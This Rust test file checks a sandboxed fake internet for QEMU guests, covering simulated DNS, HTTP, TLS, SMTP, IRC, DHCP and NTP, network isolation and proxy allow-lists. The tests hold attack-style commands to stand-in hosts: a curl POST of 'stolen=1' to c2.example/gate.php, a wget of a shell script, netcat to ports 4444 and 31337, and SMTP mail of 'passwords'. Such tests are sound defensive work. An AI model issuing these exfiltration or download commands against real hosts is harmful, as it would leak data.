//! The network of real guests. Where QEMU or bubblewrap are missing, the tests say so and pass.

mod common;
#[path = "common/within_tls.rs"]
mod within_tls;

use std::fs::File;
use std::io::Read as _;
use std::path::PathBuf;

use common::{GUEST, collect, internet_program, qemu, root_sh, sh};
use sandbox::internet::event::{Entry, Event, FILE};
use sandbox::internet::{Authority, Beyond, Internet, Proxy, Route, Settings};
use sandbox::machine::{Guest, Qemu, Spec};

/// Not a test of its own: what the tests below run in a process of its own.
#[test]
#[ignore = "it is started by other tests"]
fn internet_process() {
    sandbox::internet::run().unwrap();
}

/// A guest that is connected.
struct Connected {
    guest: Guest,
    internet: Internet,
    log: tempfile::TempDir,
}

async fn connect(qemu: &Qemu, route: Route) -> Connected {
    connect_at(qemu, route, None).await
}

async fn connect_at(qemu: &Qemu, route: Route, clock: Option<jiff::Timestamp>) -> Connected {
    connect_with(qemu, Settings::new(route), Beyond::default(), clock).await
}

async fn connect_with(
    qemu: &Qemu,
    mut settings: Settings,
    beyond: Beyond,
    clock: Option<jiff::Timestamp>,
) -> Connected {
    let guest = qemu.restore(&Spec { clock, ..Spec::new(GUEST) }).await.unwrap();
    let (certificate, key) = qemu.guests().get(GUEST).unwrap().authority();
    let [certificate, key] = [certificate, key].map(|path| std::fs::read_to_string(path).unwrap());
    settings.authority = Some(Authority { certificate, key });
    settings.clock_offset = clock.map_or(0, |clock| clock.duration_since(jiff::Timestamp::now()).as_secs());
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("logs")).unwrap();
    let log = File::options().append(true).create_new(true).open(dir.path().join(FILE)).unwrap();
    let internet =
        Internet::connect(qemu, &guest, &internet_program(), &settings, beyond, log).await.unwrap();
    Connected { guest, internet, log: dir }
}

impl Connected {
    /// What a shell's command prints, run by the guest's ordinary user.
    async fn sh(&self, line: &str) -> String {
        collect(&mut self.guest.agent().run(sh(line)).await.unwrap()).await.unwrap().output
    }

    async fn root_sh(&self, line: &str) -> String {
        collect(&mut self.guest.agent().run(root_sh(line)).await.unwrap()).await.unwrap().output
    }

    /// Stops the guest and gives what was told of it.
    async fn end(self) -> Vec<Event> {
        self.guest.stop().await.unwrap();
        self.internet.finish().await.unwrap();
        let mut text = String::new();
        File::open(self.log.path().join(FILE)).unwrap().read_to_string(&mut text).unwrap();
        text.lines().map(|line| serde_json::from_str::<Entry>(line).unwrap().event).collect()
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_guest_finds_names_pages_and_mail_servers() {
    let Some(qemu) = qemu() else { return };
    let net = connect(&qemu, Route::Fake).await;
    let answer = net.sh("getent hosts c2.example; getent hosts C2.example").await;
    let addresses: Vec<&str> = answer.split_whitespace().filter(|word| word.starts_with("198.1")).collect();
    assert!(addresses.len() == 2 && addresses[0] == addresses[1], "{answer}");
    let page = net.sh("curl -sS -m 60 -A evil/1 -d stolen=1 http://c2.example/gate.php 2>&1").await;
    assert!(page.contains("c2.example is up"), "{page}");
    // The certificate is checked: its authority is one that the guest trusts.
    let page = net.sh("curl -sS -m 60 https://secure.example/data.json 2>&1").await;
    assert_eq!(page, "{\"status\":\"ok\"}\n");
    let python =
        "import urllib.request as u; print(u.urlopen('https://198.51.100.7:8443/x.txt', timeout=60).read())";
    assert_eq!(net.sh(&format!("python3 -c \"{python}\" 2>&1")).await, "b'OK\\n'\n");
    assert!(net.sh("wget -q -O- http://203.0.113.9:4711/a.sh 2>&1").await.starts_with("#!/bin/sh"));
    let said = net.sh("printf 'hello\\nmore\\n' | nc -q 2 -w 5 192.0.2.77 31337").await;
    assert_eq!(said, "200 OK\n".replace('\n', "\r\n"), "both lines came at once");
    assert!(
        net.sh("nc -w 4 192.0.2.77 4444 </dev/null; sleep 3 | nc -w 5 192.0.2.77 4444")
            .await
            .contains("220 Service")
    );
    let mail = "import smtplib; s=smtplib.SMTP('mail.example',587,timeout=60); s.starttls(); s.login('me','secret'); \
                s.sendmail('a@b.example',['c@d.example'],'Subject: loot\\n\\n.dot\\npasswords'); s.quit(); print('sent')";
    assert_eq!(net.sh(&format!("python3 -c \"{mail}\" 2>&1")).await, "sent\n");
    let chat = net.sh("(printf 'NICK bot\\r\\nUSER b 0 * :b\\r\\nJOIN #c\\r\\nPRIVMSG #c :ready\\r\\nQUIT\\r\\n'; sleep 1) | nc -w 5 irc.example 6667").await;
    assert!(chat.contains(" 001 bot ") && chat.contains("JOIN #c"), "{chat}");
    let events = net.end().await;
    let http: Vec<_> = events
        .iter()
        .filter_map(|event| match event {
            Event::Http(http) => Some(http),
            _ => None,
        })
        .collect();
    assert_eq!(http.len(), 4, "{events:#?}");
    assert_eq!((&*http[0].method, &*http[0].host, &*http[0].target), ("POST", "c2.example", "/gate.php"));
    assert_eq!((&http[0].request_body.data.0[..], &*http[0].user_agent), (&b"stolen=1"[..], "evil/1"));
    assert!(http[1].is_secure && http[1].host == "secure.example" && http[2].is_secure);
    let tls = events
        .iter()
        .find_map(|event| match event {
            Event::Tls(tls) => Some(tls),
            _ => None,
        })
        .unwrap();
    assert_eq!((tls.sni.as_deref(), tls.error.as_deref()), (Some("secure.example"), None));
    let smtp = events
        .iter()
        .find_map(|event| match event {
            Event::Smtp(smtp) => Some(smtp),
            _ => None,
        })
        .unwrap();
    assert!(smtp.is_secure && smtp.mail_to == ["c@d.example"] && smtp.password == "secret", "{smtp:?}");
    assert!(String::from_utf8_lossy(&smtp.message.data.0).ends_with("\r\n.dot\r\npasswords\r\n"), "{smtp:?}");
    assert!(events.iter().any(|event| matches!(event, Event::Irc { command, params, .. } if command == "PRIVMSG" && params == "#c :ready")));
    assert!(events.iter().any(|event| matches!(event, Event::Said { flow, data, .. } if flow.dport == 31337 && data.0 == b"hello\nmore\n")));
}

/// A program that would reach the host, were there a way: every address of this host, and many others.
#[tokio::test(flavor = "multi_thread")]
async fn nothing_reaches_a_real_network() {
    let Some(qemu) = qemu() else { return };
    let canary = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
    canary.set_nonblocking(true).unwrap();
    let datagrams = std::net::UdpSocket::bind(("0.0.0.0", canary.local_addr().unwrap().port())).unwrap();
    datagrams.set_nonblocking(true).unwrap();
    let port = canary.local_addr().unwrap().port();
    let net = connect(&qemu, Route::Fake).await;
    // What the process has of a network: a loopback that is down, and no address.
    let inside = descendants(net.internet.pid());
    assert!(inside.len() >= 2, "bubblewrap and what runs in it: {inside:?}");
    let own = std::fs::read_link("/proc/self/ns/net").unwrap();
    let last = *inside.last().unwrap();
    assert_ne!(std::fs::read_link(format!("/proc/{last}/ns/net")).unwrap(), own);
    let devices = std::fs::read_to_string(format!("/proc/{last}/net/dev")).unwrap();
    let cards: Vec<&str> =
        devices.lines().skip(2).map(|line| line.split(':').next().unwrap().trim()).collect();
    assert_eq!(cards, ["lo"]);
    assert_eq!(std::fs::read_to_string(format!("/proc/{last}/net/route")).unwrap().lines().count(), 1);
    let status = std::fs::read_to_string(format!("/proc/{last}/status")).unwrap();
    let is =
        |name: &str, value: &str| status.lines().any(|line| line.starts_with(name) && line.ends_with(value));
    assert!(
        is("CapEff", "0000000000000000") && is("CapBnd", "0000000000000000") && is("NoNewPrivs", "1"),
        "{status}"
    );
    if rustix::process::geteuid().is_root() {
        assert!(!is("Uid", "\t0"), "{status}");
    }
    for address in host_addresses().iter().map(String::as_str).chain([
        "127.0.0.1",
        "1.1.1.1",
        "169.254.169.254",
        "10.0.2.3",
    ]) {
        let said = net
            .sh(&format!(
                "echo knock | nc -q 1 -w 3 {address} {port}; echo knock | nc -u -q 1 -w 1 {address} {port}"
            ))
            .await;
        assert!(
            address == "127.0.0.1" || address == "10.0.2.3" || said.contains("200 OK"),
            "{address}: {said}"
        );
    }
    assert_eq!(canary.accept().unwrap_err().kind(), std::io::ErrorKind::WouldBlock);
    assert_eq!(datagrams.recv(&mut [0; 9]).unwrap_err().kind(), std::io::ErrorKind::WouldBlock);
    let counters = std::fs::read_to_string(format!("/proc/{last}/net/dev")).unwrap();
    let sent: u64 = counters
        .lines()
        .skip(2)
        .flat_map(|line| line.split_whitespace().skip(1))
        .map(|word| word.parse::<u64>().unwrap())
        .sum();
    assert_eq!(sent, 0, "{counters}");
    let events = net.end().await;
    assert!(events.iter().any(|event| matches!(event, Event::Datagram { flow, .. } if flow.dport == port)));
}

#[tokio::test(flavor = "multi_thread")]
async fn two_guests_never_see_each_other() {
    let Some(qemu) = qemu() else { return };
    let (one, other) = (connect(&qemu, Route::Fake).await, connect(&qemu, Route::Fake).await);
    let listening = "python3 -m http.server 8000 >/dev/null 2>&1 & p=$!; curl -s --retry 60 --retry-delay 1 --retry-connrefused http://127.0.0.1:8000/ | head -c 9; kill $p";
    let knocking = "for i in 1 2 3; do curl -sS -m 3 http://10.0.2.15:8000/ 2>&1; arping -c1 10.0.2.16 2>/dev/null; sleep 1; done; echo over";
    let (heard, said) = tokio::join!(one.sh(listening), other.sh(knocking));
    assert_eq!(heard, "<!DOCTYPE");
    // Its own address is its own, and nothing listens there.
    assert!(said.contains("Failed to connect") && !said.contains("Directory listing"), "{said}");
    other.sh("curl -s -m 10 http://only-mine.example/").await;
    let (one, other) = (one.end().await, other.end().await);
    let http = |events: &[Event]| events.iter().filter(|event| matches!(event, Event::Http(_))).count();
    assert_eq!((http(&one), http(&other)), (0, 1));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_guest_gets_a_lease_an_echo_and_the_time_of_its_task() {
    let Some(qemu) = qemu() else { return };
    let clock: jiff::Timestamp = "2031-05-06T07:08:09Z".parse().unwrap();
    let net = connect_at(&qemu, Route::Fake, Some(clock)).await;
    let lease = net.root_sh(&format!("python3 - <<'E' 2>&1\n{LEASE}\nE")).await;
    assert_eq!(lease, "2 10.0.2.15\n5 10.0.2.15\n6 0.0.0.0\n");
    let echo = net.root_sh(&format!("python3 - <<'E' 2>&1\n{ECHO}\nE")).await;
    assert_eq!(echo, "198.51.100.1 0 b'ping of a guest'\n");
    let time = net.sh(&format!("python3 - <<'E' 2>&1\n{TIME}\nE")).await;
    assert!(time.starts_with("2031-05-06 07:"), "{time}");
    let head = net.sh("curl -sS -m 60 -I https://later.example/ 2>&1").await;
    assert!(head.contains("06 May 2031"), "{head}");
    let events = net.end().await;
    assert!(events.iter().any(
        |event| matches!(event, Event::Dhcp { host_name, .. } if host_name.as_deref() == Some("victim"))
    ));
    assert!(
        events
            .iter()
            .any(|event| matches!(event, Event::Ping { dst, .. } if dst.octets() == [198, 51, 100, 1]))
    );
}

/// Discover, a request for the address that is offered, and one for another.
const LEASE: &str = r#"
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); s.setsockopt(socket.SOL_SOCKET, 25, b'eth0')
s.bind(('', 68)); s.settimeout(60)
mac = bytes.fromhex(open('/sys/class/net/eth0/address').read().strip().replace(':', ''))
def ask(kind, extra=b''):
    head = struct.pack('!BBBBIHH4s4s4s4s', 1, 1, 6, 0, 77, 0, 0x8000, *[bytes(4)] * 4) + mac + bytes(10 + 192)
    s.sendto(head + b'\x63\x82\x53\x63' + bytes([53, 1, kind]) + extra + b'\x0c\x06victim\xff', ('255.255.255.255', 67))
    got = s.recv(2000)
    print(got[242], socket.inet_ntoa(got[16:20]))
ask(1)
ask(3, bytes([50, 4, 10, 0, 2, 15, 54, 4, 10, 0, 2, 2]))
ask(3, bytes([50, 4, 10, 0, 2, 99]))
"#;

const ECHO: &str = r#"
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(60)
def total(data):
    words = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    words = (words >> 16) + (words & 0xffff)
    return ~(words + (words >> 16)) & 0xffff
text = b'ping of a guest'
head = struct.pack('!BBHHH', 8, 0, 0, 5, 1)
head = struct.pack('!BBHHH', 8, 0, total(head + text + b'\0'), 5, 1)
s.sendto(head + text, ('198.51.100.1', 0))
got, sender = s.recvfrom(2000)
print(sender[0], got[20], got[28:])
"#;

const TIME: &str = r#"
import socket, struct, datetime
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(60)
s.sendto(b'\x23' + bytes(39) + b'tokenxyz', ('pool.ntp.org', 123))
got = s.recv(100)
assert got[24:32] == b'tokenxyz'
seconds = struct.unpack('!I', got[40:44])[0] - 2208988800
print(datetime.datetime.fromtimestamp(seconds, datetime.timezone.utc))
"#;

#[tokio::test(flavor = "multi_thread")]
async fn a_network_that_drops_answers_nothing() {
    let Some(qemu) = qemu() else { return };
    let net = connect(&qemu, Route::Drop).await;
    let said = net
        .sh("getent hosts a.example || echo no name; curl -sS -m 3 http://192.0.2.1/ 2>&1; ip neigh")
        .await;
    assert!(
        said.contains("no name") && said.contains("timed out") && said.contains("52:55:0a:00:02:02"),
        "{said}"
    );
    let events = net.end().await;
    assert!(
        matches!(events[..], [Event::Started { route: Route::Drop }, Event::Ended { counts }] if counts.frames > 0),
        "{events:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn the_process_ends_with_its_machine_and_a_dead_one_is_an_error() {
    let Some(qemu) = qemu() else { return };
    let net = connect(&qemu, Route::Fake).await;
    assert!(!net.internet.is_gone());
    let last = *descendants(net.internet.pid()).last().unwrap();
    kill(last);
    let error = net.internet.finish().await.unwrap_err().to_string();
    assert!(error.starts_with("the guest's network: it ended with"), "{error}");
    // The machine goes on: nobody answers.
    let said = collect(&mut net.guest.agent().run(sh("curl -sS -m 2 http://a.example/ 2>&1")).await.unwrap())
        .await
        .unwrap();
    assert!(said.output.contains("curl: ("), "{}", said.output);
    // One that is dropped leaves no process.
    let net = connect(&qemu, Route::Fake).await;
    let all = descendants(net.internet.pid());
    drop(net.internet);
    for _ in 0..500 {
        if all.iter().all(|pid| !is_alive(*pid)) {
            return;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    panic!("{all:?} live");
}

/// A proxy of somebody else's on a port of its own, ended with the test.
struct Proxied {
    process: std::process::Child,
    port: u16,
    _dir: tempfile::TempDir,
}

impl Drop for Proxied {
    fn drop(&mut self) {
        let _ = self.process.kill();
        let _ = self.process.wait();
    }
}

/// tinyproxy speaks HTTP, microsocks SOCKS 5; none where the program is missing.
async fn proxied(program: &str) -> Option<Proxied> {
    let dir = tempfile::tempdir().unwrap();
    let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let conf = dir.path().join("tinyproxy.conf");
    std::fs::write(
        &conf,
        format!("Port {free}\nListen 127.0.0.1\nTimeout 60\nMaxClients 20\nAllow 127.0.0.1\n"),
    )
    .unwrap();
    let mut call = std::process::Command::new(program);
    match program {
        "tinyproxy" => call.arg("-d").arg("-c").arg(&conf),
        _ => call.args(["-i", "127.0.0.1", "-p", &free.to_string(), "-u", "ada", "-P", "secret"]),
    };
    let quiet = || std::process::Stdio::null();
    let Ok(process) = call.stdout(quiet()).stderr(quiet()).spawn() else {
        eprintln!("skipped: {program} is not installed; `cargo xtask setup` does that");
        return None;
    };
    let proxied = Proxied { process, port: free, _dir: dir };
    for _ in 0..500 {
        if std::net::TcpStream::connect(("127.0.0.1", free)).is_ok() {
            return Some(proxied);
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    panic!("{program} does not listen");
}

/// A web site of this host that says which name it was called by; its port.
async fn site() -> u16 {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let listener = tokio::net::TcpListener::bind("0.0.0.0:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let mut asked = [0; 4096];
            let length = stream.read(&mut asked).await.unwrap_or(0);
            let asked = String::from_utf8_lossy(&asked[..length]).into_owned();
            let host =
                asked.lines().find_map(|line| line.strip_prefix("Host: ")).unwrap_or_default().to_owned();
            let body = format!("real site, called {host}\n");
            let answer = format!(
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
            let _ = stream.write_all(answer.as_bytes()).await;
        }
    });
    port
}

#[tokio::test(flavor = "multi_thread")]
async fn only_what_the_owner_allows_is_reached_through_a_proxy() {
    let Some(qemu) = qemu() else { return };
    // A name that the proxy resolves to this host, and that guests know nothing of.
    let name = std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap().trim().to_ascii_lowercase();
    if tokio::net::lookup_host((name.as_str(), 80)).await.is_err() {
        return eprintln!("skipped: this host does not know its own name, {name}");
    }
    let (site, other) = (site().await, site().await);
    for (program, scheme) in
        [("tinyproxy", "http://"), ("tinyproxy", "https://"), ("microsocks", "socks5://ada:secret@")]
    {
        let Some(proxied) = proxied(program).await else { continue };
        let allow = [format!("{name}:{site}"), "gone.invalid:80".to_owned()];
        let mut proxy =
            serde_json::json!({"url": format!("{scheme}127.0.0.1:{}", proxied.port), "allow": allow});
        let within_tls = within_tls::before(proxied.port).await;
        if scheme == "https://" {
            proxy["url"] = format!("{scheme}localhost:{}", within_tls.port).into();
            proxy["ca"] = within_tls.authority.to_str().into();
        }
        let proxy: Proxy = serde_json::from_value(proxy).unwrap();
        let mut settings = Settings::new(Route::Proxy);
        settings.allow = proxy.allow.clone();
        let net = connect_with(&qemu, settings, Beyond { proxy: Some(proxy), results: None }, None).await;
        let get = |url: String| format!("curl -sS -m 4 {url} 2>&1");
        let reached = net.sh(&format!("curl -sS -m 60 http://{name}:{site}/ 2>&1")).await;
        assert_eq!(reached, format!("real site, called {name}:{site}\n"), "{program}");
        // Another port, another name, this host by its address, and what plays the internet for others.
        for refused in [
            format!("http://{name}:{other}/"),
            "http://c2.example/".into(),
            format!("http://10.0.2.2:{site}/"),
        ] {
            let said = net.sh(&get(refused.clone())).await;
            assert!(said.contains("timed out"), "{program} {refused}: {said}");
        }
        let gone = net.sh("curl -sS -m 40 http://gone.invalid/ 2>&1").await;
        assert!(gone.starts_with("curl: (") && !gone.contains("timed out"), "{program}: {gone}");
        let events = net.end().await;
        let led: Vec<_> = events.iter().filter(|event| matches!(event, Event::Proxied { .. })).collect();
        assert_eq!(led.len(), 2, "{led:?}");
        let dropped = |wanted: &str| {
            events
                .iter()
                .any(|event| matches!(event, Event::Dropped { name: Some(name), .. } if name == wanted))
        };
        assert!(dropped("c2.example") && dropped(&name), "{events:?}");
        let unreached = events.iter().filter(|event| matches!(event, Event::Unreached { .. })).count();
        assert_eq!(unreached, 1);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_proxy_is_nobodys_who_did_not_ask_for_it() {
    let Some(qemu) = qemu() else { return };
    let (Some(proxied), site) = (proxied("microsocks").await, site().await) else { return };
    // The process believes that everything is allowed; the server, which dials, knows better.
    let strict: Proxy = serde_json::from_value(serde_json::json!({
        "url": format!("socks5://ada:secret@127.0.0.1:{}", proxied.port), "allow": []
    }))
    .unwrap();
    let mut settings = Settings::new(Route::Proxy);
    settings.allow = vec!["*:*".parse().unwrap(), "0.0.0.0/0:*".parse().unwrap()];
    for proxy in [Some(strict), None] {
        let net = connect_with(&qemu, settings.clone(), Beyond { proxy, results: None }, None).await;
        let said = net.sh(&format!("curl -sS -m 10 http://c2.example:{site}/ 2>&1")).await;
        assert!(said.starts_with("curl: (") && !said.contains("timed out"), "{said}");
        let events = net.end().await;
        assert!(events.iter().any(|event| matches!(event, Event::Unreached { .. })), "{events:?}");
    }
}

fn kill(pid: u32) {
    let pid = rustix::process::Pid::from_raw(i32::try_from(pid).unwrap()).unwrap();
    rustix::process::kill_process(pid, rustix::process::Signal::KILL).unwrap();
}

fn is_alive(pid: u32) -> bool {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
    stat.rsplit_once(") ").is_some_and(|(_, rest)| !rest.starts_with('Z'))
}

/// A process and all below it, parents first.
fn descendants(pid: u32) -> Vec<u32> {
    let mut all = vec![pid];
    let mut at = 0;
    while let Some(pid) = all.get(at) {
        let children =
            std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).unwrap_or_default();
        all.extend(children.split_whitespace().map(|child| child.parse::<u32>().unwrap()));
        at += 1;
    }
    all
}

/// Addresses of version 4 that this host answers to.
fn host_addresses() -> Vec<String> {
    let table = std::fs::read_to_string(PathBuf::from("/proc/net/fib_trie")).unwrap_or_default();
    let lines: Vec<&str> = table.lines().collect();
    let local = lines.windows(2).filter(|pair| pair[1].contains("/32 host LOCAL"));
    let mut all: Vec<String> =
        local.filter_map(|pair| pair[0].rsplit(' ').next()).map(str::to_owned).collect();
    all.retain(|address| !address.starts_with("127."));
    all.sort();
    all.dedup();
    all
}
